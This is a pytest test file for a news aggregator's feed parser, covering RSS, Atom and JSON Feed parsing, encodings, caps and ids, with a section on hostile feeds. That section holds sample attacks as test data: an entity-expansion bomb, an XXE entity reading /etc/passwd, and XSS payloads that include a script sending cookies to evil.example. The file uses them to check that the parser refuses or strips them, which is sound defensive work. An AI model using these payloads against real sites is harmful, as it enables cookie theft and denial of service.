"""The feed parser plugin: formats, sniffing, tolerance, hostile feeds, encodings, caps, ids."""

from __future__ import annotations

import functools
import json
import re
import time
from datetime import UTC, datetime, timedelta
from html import escape
from pathlib import Path
from typing import Any

import pluggy
import pytest

import aggregator.app
from aggregator import (
    Config,
    ConfigError,
    Document,
    DocumentError,
    Item,
    SkipDocument,
    SourceConfig,
    hookspecs,
    stable_id,
)
from aggregator.config import config_from_dict
from aggregator.manager import DEFAULT_PLUGINS, build_plugin_manager
from aggregator.plugins import feed_parser, text_parser
from aggregator.plugins.feed_parser import parse_document, parse_xml
from aggregator.testing import FeedProject
from aggregator.toolkit import feed_items
from aggregator.toolkit import feed_safety as safety

MODULE = "aggregator.plugins.feed_parser"
TEXT_PARSER = "aggregator.plugins.text_parser"
FEED_URL = "http://feeds.example.org/world/news.xml"
NOW = datetime.now(UTC)
SOURCE = SourceConfig(name="news", type="http", options={}, base_dir=Path("."))

SANITIZED_TAG = re.compile(r'<(?:[^>"]|"[^"]*")*>')
DANGEROUS_TAG = re.compile(
    r"^<\s*/?\s*(?:script|style|iframe|frame|object|embed|form|input|button|textarea|img|svg"
    r"|math|meta|link|base|applet)\b|\son[a-z]+\s*=|\sstyle\s*="
    r"|(?:href|src|action)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):",
    re.IGNORECASE,
)
TAG_LIKE = re.compile(r"<[^<>]*(?:>|(?=<)|$)")
DANGEROUS_TEXT = re.compile(
    r"^<\s*/?\s*(?:script|style|iframe|object|embed|form|img|svg)\b|\son[a-z]+\s*="
    r"|javascript:|vbscript:",
    re.IGNORECASE,
)


def document(
    content: bytes | str,
    media_type: str | None = "application/rss+xml",
    *,
    uri: str = FEED_URL,
    encoding: str | None = None,
    fetched_at: datetime = NOW,
) -> Document:
    data = content.encode("utf-8") if isinstance(content, str) else content
    return Document(
        source=SOURCE.name,
        uri=uri,
        content=data,
        media_type=media_type,  # type: ignore[arg-type]  # fetchers may have none
        fetched_at=fetched_at,
        encoding=encoding,
        meta={"url": uri},
    )


def parse(content: bytes | str, media_type: str | None = "application/rss+xml", **kw: Any) -> Any:
    limits = {k: kw.pop(k) for k in ("max_entries", "max_content_chars") if k in kw}
    return parse_document(document(content, media_type, **kw), SOURCE, **limits)


def items_of(content: bytes | str, media_type: str | None = "application/rss+xml", **kw: Any):  # type: ignore[no-untyped-def]
    items = parse(content, media_type, **kw)
    assert isinstance(items, list), items
    return items


def rss(items: str, channel: str = "", version: str = "2.0") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n<rss version="{version}" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">\n'
        f"<channel><title>Harbour Gazette</title><link>https://gazette.example.com/</link>"
        f"{channel}\n{items}\n</channel></rss>\n"
    )


def assert_harmless(item: Item) -> None:
    """No dangerous tag or attribute in the HTML (its text is escaped), nothing that looks
    like dangerous markup in the plain-text fields, and an http(s) link or none."""
    for tag in SANITIZED_TAG.findall(item.html):
        assert not DANGEROUS_TAG.search(tag), item.html
    for value in (item.title, item.summary, item.text, item.outlet or "", *item.authors):
        for tag in TAG_LIKE.findall(value):
            assert not DANGEROUS_TEXT.search(tag), value
    assert item.link is None or item.link.startswith(("http://", "https://"))


# -- formats --------------------------------------------------------------------------

RSS20 = rss(
    """
<item>
  <title>Port authority opens &lt;em&gt;second&lt;/em&gt; container terminal</title>
  <link>https://gazette.example.com/2025/05/terminal</link>
  <guid isPermaLink="false">gazette-4471</guid>
  <pubDate>Tue, 06 May 2025 09:30:00 +0200</pubDate>
  <dc:creator>Mira Okafor</dc:creator>
  <description>The new berths double capacity.</description>
  <content:encoded><![CDATA[<p>The new berths <b>double</b> capacity.</p>
    <p>Cranes arrive<br>next month.</p>
    <ul><li>Berth 7</li><li>Berth 8</li></ul>]]></content:encoded>
</item>
<item>
  <title>Ferry timetable changes</title>
  <link>https://gazette.example.com/2025/05/ferry</link>
  <description>Weekend sailings move an hour earlier.</description>
</item>""",
    channel="<language>en-GB</language>",
)


def test_rss_20_fields() -> None:
    first, second = items_of(RSS20)
    assert first.id == stable_id("news", "gazette-4471")
    assert first.guid == "gazette-4471"
    assert first.source == "news"
    assert first.uri == FEED_URL
    assert first.link == "https://gazette.example.com/2025/05/terminal"
    assert first.title == "Port authority opens second container terminal"
    assert first.summary == "The new berths double capacity."
    assert first.text == (
        "The new berths double capacity.\n\nCranes arrive\nnext month.\n\nBerth 7\nBerth 8"
    )
    assert "<b>double</b>" in first.html and "<li>Berth 7</li>" in first.html
    assert first.published == datetime(2025, 5, 6, 7, 30, tzinfo=UTC)
    assert first.authors == ["Mira Okafor"]
    assert first.outlet == "Harbour Gazette"
    assert first.language == "en-GB"
    assert first.extras["feed_title"] == "Harbour Gazette"
    assert first.extras["feed_link"] == "https://gazette.example.com/"
    # no guid: the canonical link is the identity; no content: the summary is the HTML
    assert second.guid is None or second.guid == second.link
    assert second.id == stable_id("news", "https://gazette.example.com/2025/05/ferry")
    assert second.html == "Weekend sailings move an hour earlier."
    assert second.text == "Weekend sailings move an hour earlier."
    assert second.published is None


def test_source_outlet_wins_over_feed_title() -> None:
    source = SourceConfig(name="news", type="http", options={}, base_dir=Path("."), outlet="HG")
    items = parse_document(document(RSS20), source)
    assert items is not None and {item.outlet for item in items} == {"HG"}


def test_rss_091_and_092() -> None:
    for version in ("0.91", "0.92"):
        feed = rss(
            "<item><title>Lighthouse repainted</title>"
            "<link>https://gazette.example.com/lighthouse</link>"
            "<description>Red and white again.</description></item>",
            version=version,
        )
        (item,) = items_of(feed)
        assert item.title == "Lighthouse repainted"
        assert item.text == "Red and white again."


RSS10 = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://valley.example.net/">
    <title>Valley Notes</title><link>https://valley.example.net/</link>
    <description>Local notes</description><dc:language>fr</dc:language>
  </channel>
  <item rdf:about="https://valley.example.net/n/12">
    <title>Bridge reopens</title><link>https://valley.example.net/n/12</link>
    <description>Traffic resumes on Monday.</description>
    <dc:date>2024-11-03T08:00:00Z</dc:date><dc:creator>J. Laurent</dc:creator>
  </item>
</rdf:RDF>"""

RSS090 = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://my.netscape.com/rdf/simple/0.9/">
  <channel><title>Old Wire</title><link>https://wire.example.org/</link></channel>
  <item><title>Telegraph line restored</title><link>https://wire.example.org/7</link></item>
  <item><title>Storm warning lifted</title><link>https://wire.example.org/8</link></item>
</rdf:RDF>"""


def test_rss_10_rdf() -> None:
    (item,) = items_of(RSS10, "application/rdf+xml")
    assert item.title == "Bridge reopens"
    assert item.link == "https://valley.example.net/n/12"
    assert item.text == "Traffic resumes on Monday."
    assert (item.published or item.updated) == datetime(2024, 11, 3, 8, tzinfo=UTC)
    assert item.authors == ["J. Laurent"]
    assert item.outlet == "Valley Notes"
    assert item.language == "fr"


def test_rss_090_is_read_by_the_fallback() -> None:
    items = items_of(RSS090, "application/rdf+xml")
    assert [item.title for item in items] == ["Telegraph line restored", "Storm warning lifted"]
    assert items[0].extras["parser"] == "feedparser"


ATOM10 = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de" xml:base="https://alps.example.de/blog/">
  <title type="html">Alpine &lt;i&gt;Journal&lt;/i&gt;</title>
  <link href="/" rel="alternate"/><link href="https://alps.example.de/atom" rel="self"/>
  <id>urn:uuid:0d7e6a3c-1111-4a1e-9a55-3b6a8f0e0001</id>
  <updated>2025-02-01T10:00:00Z</updated>
  <author><name>Redaktion</name></author>
  <entry xml:base="2025/">
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"
      >Pass <b>closed</b> by snow</div></title>
    <link rel="related" href="https://weather.example.de/"/>
    <link rel="alternate" type="text/html" href="pass-closed.html"/>
    <id>tag:alps.example.de,2025:pass-closed</id>
    <published>2025-01-31T18:00:00+01:00</published>
    <updated>2025-02-01T07:15:00+01:00</updated>
    <author><name>Anna Berger</name></author><author><name>Luca Moser</name></author>
    <summary>Road authorities closed the pass.</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
      <p>The pass is <a href="map.html">closed</a> until Friday.</p>
      <div>Chains are required below.</div></div></content>
  </entry>
  <entry>
    <title>Hut season opens</title>
    <link href="https://alps.example.de/blog/huts"/>
    <id>tag:alps.example.de,2025:huts</id>
    <updated>2025-01-20T09:00:00Z</updated>
    <content type="html">&lt;p&gt;Most huts open in June.&lt;/p&gt;</content>
  </entry>
</feed>"""


def test_atom_10() -> None:
    first, second = items_of(ATOM10, "application/atom+xml")
    assert first.title == "Pass closed by snow"
    assert first.link == "https://alps.example.de/blog/2025/pass-closed.html"
    assert first.guid == "tag:alps.example.de,2025:pass-closed"
    assert first.published == datetime(2025, 1, 31, 17, tzinfo=UTC)
    assert first.updated == datetime(2025, 2, 1, 6, 15, tzinfo=UTC)
    assert first.authors == ["Anna Berger", "Luca Moser"]
    assert first.summary == "Road authorities closed the pass."
    assert first.text == "The pass is closed until Friday.\n\nChains are required below."
    assert 'href="https://alps.example.de/blog/2025/map.html"' in first.html
    assert first.language == "de"
    assert first.outlet == "Alpine Journal"
    assert first.extras["feed_link"] == "https://alps.example.de/"
    assert second.authors == ["Redaktion"]  # the feed's author stands in
    assert second.text == "Most huts open in June."
    assert second.updated == datetime(2025, 1, 20, 9, tzinfo=UTC)


def test_atom_03() -> None:
    feed = """<?xml version="1.0"?>
<feed version="0.3" xmlns="http://purl.org/atom/ns#">
  <title>Orchard Log</title><link rel="alternate" type="text/html" href="https://orchard.example/"/>
  <entry>
    <title>First blossoms</title>
    <link rel="alternate" type="text/html" href="https://orchard.example/blossoms"/>
    <id>tag:orchard.example,2004:1</id>
    <issued>2004-04-02T10:00:00Z</issued><modified>2004-04-03T10:00:00Z</modified>
    <content type="text/html" mode="escaped"
      >&lt;p&gt;The cherries came &lt;b&gt;early&lt;/b&gt;.&lt;/p&gt;</content>
  </entry>
</feed>"""
    (item,) = items_of(feed, "application/atom+xml")
    assert item.title == "First blossoms"
    assert item.link == "https://orchard.example/blossoms"
    assert item.text == "The cherries came early."
    assert "<b>early</b>" in item.html
    assert item.published == datetime(2004, 4, 2, 10, tzinfo=UTC)


JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "River Dispatch",
    "home_page_url": "https://river.example.com/",
    "language": "en-US",
    "authors": [{"name": "Desk"}],
    "items": [
        {
            "id": "2025-0101",
            "url": "/stories/flood-barrier",
            "title": "Flood barrier <em>tested</em>",
            "content_html": "<p>The barrier held.</p><script>steal()</script>",
            "content_text": "The barrier held.",
            "summary": "A test at high tide.",
            "date_published": "2025-03-01T06:00:00-05:00",
            "date_modified": "2025-03-01T09:00:00Z",
            "authors": [{"name": "Ola Nordmann"}, {"url": "https://river.example.com/x"}],
            "language": "nb",
        },
        {
            "id": 42,
            "url": "https://river.example.com/stories/ice",
            "content_text": "Ice is breaking up early this year.\n\nBoats wait downstream.",
        },
        "not an item",
    ],
}


def test_json_feed_11() -> None:
    first, second = items_of(json.dumps(JSON_FEED), "application/feed+json")
    assert first.id == stable_id("news", "2025-0101")
    assert first.link == "https://river.example.com/stories/flood-barrier"
    assert first.title == "Flood barrier tested"
    assert first.html == "<p>The barrier held.</p>"
    assert first.text == "The barrier held."
    assert first.summary == "A test at high tide."
    assert first.published == datetime(2025, 3, 1, 11, tzinfo=UTC)
    assert first.updated == datetime(2025, 3, 1, 9, tzinfo=UTC)
    assert first.authors == ["Ola Nordmann"]
    assert first.language == "nb"
    assert first.outlet == "River Dispatch"
    # content_text only: paragraphs become HTML, the title comes from the first sentence
    assert second.guid == "42"
    assert second.html == "<p>Ice is breaking up early this year.</p><p>Boats wait downstream.</p>"
    assert second.text == "Ice is breaking up early this year.\n\nBoats wait downstream."
    assert second.title == "Ice is breaking up early this year."
    assert second.extras["title_derived"] is True
    assert second.authors == ["Desk"]
    assert second.language == "en-US"


def test_json_feed_10_author_and_sniffing() -> None:
    feed = {
        "version": "https://jsonfeed.org/version/1",
        "title": "Old JSON",
        "author": {"name": "Single Author"},
        "items": [{"id": "a", "content_html": "<p>Hello</p>", "title": "Hi"}],
    }
    for media_type in ("application/json", "text/plain", "application/octet-stream", None):
        (item,) = items_of(json.dumps(feed), media_type)
        assert item.authors == ["Single Author"] and item.text == "Hello"


def test_json_that_is_not_a_feed() -> None:
    assert parse('{"name": "config", "items": [1, 2]}', "application/json") is None
    assert parse('{"version": 3}', "text/plain") is None
    with pytest.raises(DocumentError, match="not valid JSON Feed"):
        parse('{"version": "https://jsonfeed.org/version/1.1", "items": [', "application/feed+json")


# -- sniffing, empty feeds, pages ------------------------------------------------------


@pytest.mark.parametrize(
    "media_type", ["text/html", "text/plain", "application/octet-stream", None, "", "text/xml"]
)
def test_feed_under_a_wrong_media_type_is_sniffed(media_type: str | None) -> None:
    assert [item.title for item in items_of("\ufeff \n" + RSS20, media_type)][1] == (
        "Ferry timetable changes"
    )


def test_atom_with_leading_comment_and_no_declaration_is_sniffed() -> None:
    feed = ATOM10.split("\n", 1)[1]
    assert len(items_of("<!-- generated -->\n" + feed, "text/html")) == 2


def test_leading_junk_before_the_feed_is_skipped() -> None:
    junk = "Warning: include(ads.php): failed to open stream in /var/www/feed.php on line 3\n"
    assert len(items_of(junk + RSS20, "application/rss+xml")) == 2


PAGE = """<!DOCTYPE html>
<html lang="en"><head><title>Harbour Gazette</title>
<link rel="alternate" type="application/rss+xml" href="/feed.xml"></head>
<body><h1>Harbour Gazette</h1><p>Latest news from the harbour.</p></body></html>"""


@pytest.mark.parametrize("media_type", ["text/html", "application/xml", "text/plain", None])
def test_an_html_page_is_not_ours(media_type: str | None) -> None:
    assert parse(PAGE, media_type) is None
    assert parse('<?xml version="1.0"?>\n<html><body><p>x</p></body></html>', media_type) is None


def test_other_documents_are_not_ours() -> None:
    assert parse('<?xml version="1.0"?><note><to>Ana</to></note>', "application/xml") is None
    assert parse("India and Japan sign a pact\n\nThe text.", "text/plain") is None
    assert parse(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png") is None
    assert parse(b"", "text/html") is None


MARKUP_FREE = "Ōsaka {x} < café 日本"


@pytest.mark.parametrize(
    "content",
    [
        b"India and Japan sign a pact\n\nThe text.",
        "Ōsaka café 日本 — plain".encode(),
        *(MARKUP_FREE.encode(codec) for codec in ("utf-16-le", "utf-16-be", "utf-32-le")),
        *(("\ufeff" + MARKUP_FREE).encode(codec) for codec in ("utf-8", "utf-16", "utf-32")),
        "日本 {x} <".encode("shift_jis"),
        "日本 {x} <".encode("big5"),
        '<?xml version="1.0"?><rss/>'.encode("cp037"),
        bytes(range(256)),
        b"\x4c\x6f\xa7\x94 no angle bracket in ASCII",
    ],
)
def test_markup_is_ruled_out_from_the_bytes_only_when_decoding_agrees(content: bytes) -> None:
    """The byte-level shortcut that passes over plain text never passes over a document
    whose decoded text holds "<" or "{" (which could be a feed)."""
    if safety.cannot_hold_markup(content, None):
        text = safety.decode_feed(content)
        assert "<" not in text and "{" not in text
    assert not safety.cannot_hold_markup(content, "utf-7")


def test_plain_text_is_passed_over_with_or_without_markup_characters() -> None:
    assert safety.cannot_hold_markup(b"India and Japan sign a pact", None)
    assert parse("India and Japan sign a pact", "text/plain") is None
    assert parse("Rates < 2% {see table}\n\nIndia and Japan", "text/plain") is None
    assert len(items_of("Notice: feed moved\n" + RSS20, "text/plain")) == 2


def test_empty_feed_gives_no_items() -> None:
    assert parse(rss(""), "application/rss+xml") == []
    empty_atom = '<feed xmlns="http://www.w3.org/2005/Atom"><title>Quiet</title></feed>'
    assert parse(empty_atom, "application/atom+xml") == []
    empty_json = '{"version": "https://jsonfeed.org/version/1.1", "title": "Q", "items": []}'
    assert parse(empty_json, "application/feed+json") == []


def test_empty_or_binary_feed_documents() -> None:
    with pytest.raises(SkipDocument):
        parse(b"  \n", "application/rss+xml")
    with pytest.raises(DocumentError, match="binary"):
        parse(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "application/rss+xml")
    with pytest.raises(DocumentError, match="not a feed"):
        parse("Service temporarily unavailable", "application/atom+xml")


# -- tolerance --------------------------------------------------------------------------

BROKEN = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Night Desk</title><link>https://night.example.org/</link>
<item><title>Tom & Jerry&nbsp;return</title><link>https://night.example.org/a?x=1&y=2</link>
<description>Unescaped & ampersands and <b>unclosed bold</description></item>
<item><title>Second story</title><link>https://night.example.org/b</link>
<description>Still here.</description>
"""


@pytest.mark.parametrize("backend", ["auto", "feedparser"])
def test_ill_formed_feed_still_yields_its_entries(backend: str, monkeypatch: Any) -> None:
    if backend == "feedparser":
        monkeypatch.setattr(feed_parser, "_fast_unsuitable", lambda *args: "forced in a test")
    items = items_of(BROKEN)
    assert [item.link for item in items] == [
        "https://night.example.org/a?x=1&y=2",
        "https://night.example.org/b",
    ]
    assert items[0].title.startswith("Tom") and "return" in items[0].title
    assert "ampersands" in items[0].text


def test_truncated_feed_with_nothing_usable_is_an_error() -> None:
    with pytest.raises(DocumentError, match="unusable feed"):
        parse('<?xml version="1.0"?>\n<rss version="2.0"><chan', "application/rss+xml")


ATOM_PLAIN = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
  <title>Canal Weekly</title><link href="https://canal.example.nl/"/>
  <id>urn:canal</id><updated>2025-04-01T00:00:00Z</updated>
  <author><name>Canal Desk</name></author>
  <entry>
    <title type="html">Locks &lt;b&gt;reopen&lt;/b&gt; after repairs</title>
    <link href="https://canal.example.nl/locks"/><id>urn:canal:locks</id>
    <published>2025-03-30T06:00:00+02:00</published><updated>2025-03-31T06:00:00Z</updated>
    <summary>Boats pass again.</summary>
    <content type="html">&lt;p&gt;Boats pass again.&lt;/p&gt;
      &lt;p&gt;Repairs took a month.&lt;/p&gt;</content>
  </entry>
</feed>"""


@pytest.mark.parametrize("feed", [RSS20, RSS10, ATOM_PLAIN], ids=["rss20", "rss10", "atom"])
def test_both_parsers_agree_on_a_plain_feed(feed: str) -> None:
    text = safety.decode_feed(feed.encode())
    fast = parse_xml(text, FEED_URL, backend="fast")
    slow = parse_xml(text, FEED_URL, backend="feedparser")
    assert fast is not None and slow is not None
    assert (fast.parser, slow.parser) == ("fastfeedparser", "feedparser")
    doc = document(feed)
    fields = ("id", "link", "title", "summary", "text", "html", "authors", "outlet", "language")
    pairs = zip(
        feed_items.build_items(fast, doc, SOURCE),
        feed_items.build_items(slow, doc, SOURCE),
        strict=True,
    )
    for left, right in pairs:
        assert [getattr(left, f) for f in fields] == [getattr(right, f) for f in fields]
        assert (left.published or left.updated) == (right.published or right.updated)


# -- hostile feeds -----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>"""


@pytest.mark.parametrize("media_type", ["application/rss+xml", "text/html", None])
def test_billion_laughs_is_refused_quickly(media_type: str | None) -> None:
    started = time.process_time()
    with pytest.raises(DocumentError) as caught:
        parse(BILLION_LAUGHS, media_type)
    assert str(caught.value) == safety.REFUSED_DTD
    assert time.process_time() - started < 1.0


@pytest.mark.parametrize(
    "content",
    [
        # external entity (XXE) in lower case, after a comment
        '<?xml version="1.0"?><!-- hi --><!doctype rss [<!entity x SYSTEM "file:///etc/passwd">]>'
        "<rss><channel><item><title>&x;</title></item></channel></rss>",
        # a DOCTYPE without an internal subset is refused too
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        '<rss version="0.91"><channel><item><title>t</title></item></channel></rss>',
        # a stray declaration after the root element
        '<rss version="2.0"><!ENTITY y "boom"><channel><item><title>&y;</title></item>'
        "</channel></rss>",
        # in UTF-16: the check reads decoded text, not bytes
        ("\ufeff" + BILLION_LAUGHS).encode("utf-16-le"),
    ],
)
def test_dtd_and_entity_declarations_are_refused(content: str | bytes) -> None:
    with pytest.raises(DocumentError, match="DTD/ENTITY"):
        parse(content, "application/xml")


def test_a_doctype_quoted_in_cdata_is_not_a_declaration() -> None:
    feed = rss(
        "<item><title>Markup tips</title><link>https://gazette.example.com/tips</link>"
        "<description><![CDATA[Start pages with &lt;!DOCTYPE html&gt; <!DOCTYPE html>]]>"
        "</description></item>"
    )
    (item,) = items_of(feed)
    assert item.title == "Markup tips"


XSS = rss(
    """
<item>
  <title>&lt;script&gt;alert('t')&lt;/script&gt;Council
    &lt;img src=x onerror=alert(1)&gt;votes</title>
  <link>javascript:alert(document.cookie)</link>
  <guid isPermaLink="false">xss-1</guid>
  <author>&lt;b onmouseover="alert(2)"&gt;Eve&lt;/b&gt;</author>
  <description><![CDATA[<p onclick="alert(3)">Summary <a href="javascript:alert(4)">here</a></p>
    <style>body{display:none}</style>]]></description>
  <content:encoded><![CDATA[
    <p style="background:url(javascript:alert(5))">Budget <b>approved</b>.</p>
    <script>document.location='https://evil.example/?'+document.cookie</script>
    <img src="x" onerror="alert(6)"><iframe src="https://evil.example/"></iframe>
    <form action="https://evil.example/"><input name="pw"><button>Go</button></form>
    <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">data link</a>
    <a href="JaVaScRiPt:alert(8)">js link</a> <a href="vbscript:msgbox(9)">vb</a>
    <a href="https://council.example.gov/minutes" onmouseover="alert(10)">minutes</a>
    <svg onload="alert(11)"><circle r="1"/></svg><object data="x.swf"></object>
  ]]></content:encoded>
</item>
<item><title>Data link</title><link>data:text/html,&lt;script&gt;alert(12)&lt;/script&gt;</link>
  <guid isPermaLink="false">xss-2</guid><description>Plain.</description></item>
"""
)


def test_xss_feed_leaves_nothing_dangerous() -> None:
    first, second = items_of(XSS)
    for item in (first, second):
        assert_harmless(item)
        for value in (item.title, item.summary, item.text, item.html, *item.authors):
            assert "alert" not in value and "document.cookie" not in value
            assert "display:none" not in value
    assert first.link is None and second.link is None
    assert first.title == "Council votes"
    assert first.authors == ["Eve"]
    assert "Budget approved." in first.text and "minutes" in first.text
    assert '<a href="https://council.example.gov/minutes"' in first.html
    assert "<b>approved</b>" in first.html
    assert first.summary == "Summary here"


def test_only_http_links_are_kept() -> None:
    links = ["mailto:desk@example.org", "ftp://files.example.org/x", "//cdn.example.org/a", "a b"]
    feed = rss(
        "".join(
            f"<item><title>L{n}</title><link>{link}</link><guid>g{n}</guid></item>"
            for n, link in enumerate(links)
        )
    )
    got = [item.link for item in items_of(feed)]
    assert got == [None, None, "https://cdn.example.org/a", "https://gazette.example.com/a%20b"]


# -- relative links ------------------------------------------------------------------------


def test_relative_links_resolve_against_the_feed_link_then_the_document() -> None:
    with_link = rss(
        '<item><title>A</title><link>/2025/a.html</link><description>&lt;a href="b.html"'
        '&gt;b&lt;/a&gt; &lt;a href="#top"&gt;top&lt;/a&gt;</description></item>'
    )
    (item,) = items_of(with_link)
    assert item.link == "https://gazette.example.com/2025/a.html"
    assert 'href="https://gazette.example.com/b.html"' in item.html
    assert 'href="#top"' in item.html
    no_link = with_link.replace("<link>https://gazette.example.com/</link>", "")
    (item,) = items_of(no_link)
    assert item.link == "http://feeds.example.org/2025/a.html"
    assert 'href="http://feeds.example.org/world/b.html"' in item.html


def test_relative_links_in_json_feed() -> None:
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{"id": "1", "url": "p/1", "content_html": '<a href="/about">about</a>'}],
    }
    (item,) = items_of(json.dumps(feed), "application/feed+json")
    assert item.link == "http://feeds.example.org/world/p/1"
    assert 'href="http://feeds.example.org/about"' in item.html


# -- encodings -----------------------------------------------------------------------------


def _feed_in(encoding: str, title: str, declare: str | None = None) -> bytes:
    declared = declare or encoding
    return (
        f'<?xml version="1.0" encoding="{declared}"?>\n<rss version="2.0"><channel>'
        f"<title>{title}</title><item><title>{title}</title><guid>x</guid></item>"
        "</channel></rss>"
    ).encode(encoding)


@pytest.mark.parametrize(
    ("encoding", "title"),
    [
        ("iso-8859-1", "Café société à Zürich"),
        ("windows-1252", "“Quoted” — 5 €"),
        ("koi8-r", "Первая новость"),
        ("windows-1251", "Цитата дня"),
        ("utf-16", "Japan–India: 日印関係"),
        ("shift_jis", "日本のニュース"),
    ],
)
def test_declared_encodings(encoding: str, title: str) -> None:
    (item,) = items_of(_feed_in(encoding, title))
    assert item.title == title
    assert item.outlet == title


def test_utf8_bom_and_utf16_without_bom() -> None:
    title = "Ñandú tëst"
    (item,) = items_of(b"\xef\xbb\xbf" + _feed_in("utf-8", title))
    assert item.title == title
    raw = _feed_in("utf-16-le", title, declare="utf-16")
    (item,) = items_of(raw)
    assert item.title == title


def test_wrong_declarations() -> None:
    # declared latin-1 / cp1252, but the bytes are UTF-8
    for declared in ("ISO-8859-1", "windows-1252"):
        (item,) = items_of(_feed_in("utf-8", "Café €", declare=declared))
        assert item.title == "Café €"
    # declared UTF-8, but the bytes are cp1252
    (item,) = items_of(_feed_in("windows-1252", "naïve “quotes”", declare="utf-8"))
    assert item.title == "naïve “quotes”"
    # an unknown declaration
    (item,) = items_of(_feed_in("utf-8", "Søren", declare="x-bogus"))
    assert item.title == "Søren"


def test_http_charset_when_the_document_declares_nothing() -> None:
    raw = (
        "<rss version='2.0'><channel><title>t</title><item><title>Вторая новость</title>"
        "<guid>1</guid></item></channel></rss>"
    ).encode("koi8-r")
    (item,) = items_of(raw, "text/xml", encoding="koi8-r")
    assert item.title == "Вторая новость"


# -- dates ------------------------------------------------------------------------------------


def test_future_dates_are_dropped_and_naive_dates_are_utc() -> None:
    soon = (NOW + timedelta(days=1)).strftime("%a, %d %b %Y %H:%M:%S +0000")
    later = (NOW + timedelta(days=30)).strftime("%a, %d %b %Y %H:%M:%S +0000")
    feed = rss(
        f"<item><title>Soon</title><guid>1</guid><pubDate>{soon}</pubDate></item>"
        f"<item><title>Later</title><guid>2</guid><pubDate>{later}</pubDate></item>"
        "<item><title>Naive</title><guid>3</guid><dc:date>2024-06-01T12:00:00</dc:date></item>"
    )
    soon_item, later_item, naive = items_of(feed)
    assert soon_item.published is not None and soon_item.published.tzinfo is not None
    assert later_item.published is None
    assert (naive.published or naive.updated) == datetime(2024, 6, 1, 12, tzinfo=UTC)
    json_feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [
            {"id": "n", "title": "n", "date_published": "2024-06-01T12:00:00"},
            {"id": "f", "title": "f", "date_published": (NOW + timedelta(days=9)).isoformat()},
        ],
    }
    naive_json, future_json = items_of(json.dumps(json_feed), "application/feed+json")
    assert naive_json.published == datetime(2024, 6, 1, 12, tzinfo=UTC)
    assert future_json.published is None


# -- caps -------------------------------------------------------------------------------------


def test_field_caps() -> None:
    words = " ".join(f"word{n}" for n in range(3000))
    authors = "".join(f"<dc:creator>Author number {n} {'x' * 300}</dc:creator>" for n in range(15))
    paragraphs = "".join(f"<p>Paragraph {n}. {'Lorem ipsum dolor. ' * 20}</p>" for n in range(200))
    feed = rss(
        f"<item><title>{words}</title><guid>cap</guid><description>{words} {words}</description>"
        f"{authors}<content:encoded><![CDATA[{paragraphs}]]></content:encoded></item>"
    )
    (item,) = items_of(feed, max_content_chars=5_000)
    assert len(item.title) <= 500 and item.title.endswith("…")
    assert len(item.summary) <= 5_000 and item.summary.startswith("word0 word1")
    assert len(item.html) <= 5_000 and item.html.startswith("<p>Paragraph 0.")
    assert item.html.endswith("</p>")
    assert len(item.text) <= 5_000
    assert len(item.authors) == 10 and all(len(name) <= 200 for name in item.authors)


def test_entry_cap() -> None:
    feed = rss("".join(f"<item><title>T{n}</title><guid>g{n}</guid></item>" for n in range(12)))
    assert [item.title for item in items_of(feed, max_entries=5)] == [f"T{n}" for n in range(5)]


def test_default_entry_cap_is_1000() -> None:
    feed = rss("".join(f"<item><title>T{n}</title><guid>g{n}</guid></item>" for n in range(1010)))
    items = items_of(feed)
    assert len(items) == 1000 and items[-1].title == "T999"


# -- identity ---------------------------------------------------------------------------------


def test_ids_are_stable_and_fall_back_to_link_then_content() -> None:
    feed = rss(
        "<item><title>Guid</title><guid>urn:x:1</guid><link>https://g.example/1</link></item>"
        "<item><title>Link only</title><link>https://g.example/2</link></item>"
        "<item><title>Neither</title><description>Only words.</description></item>"
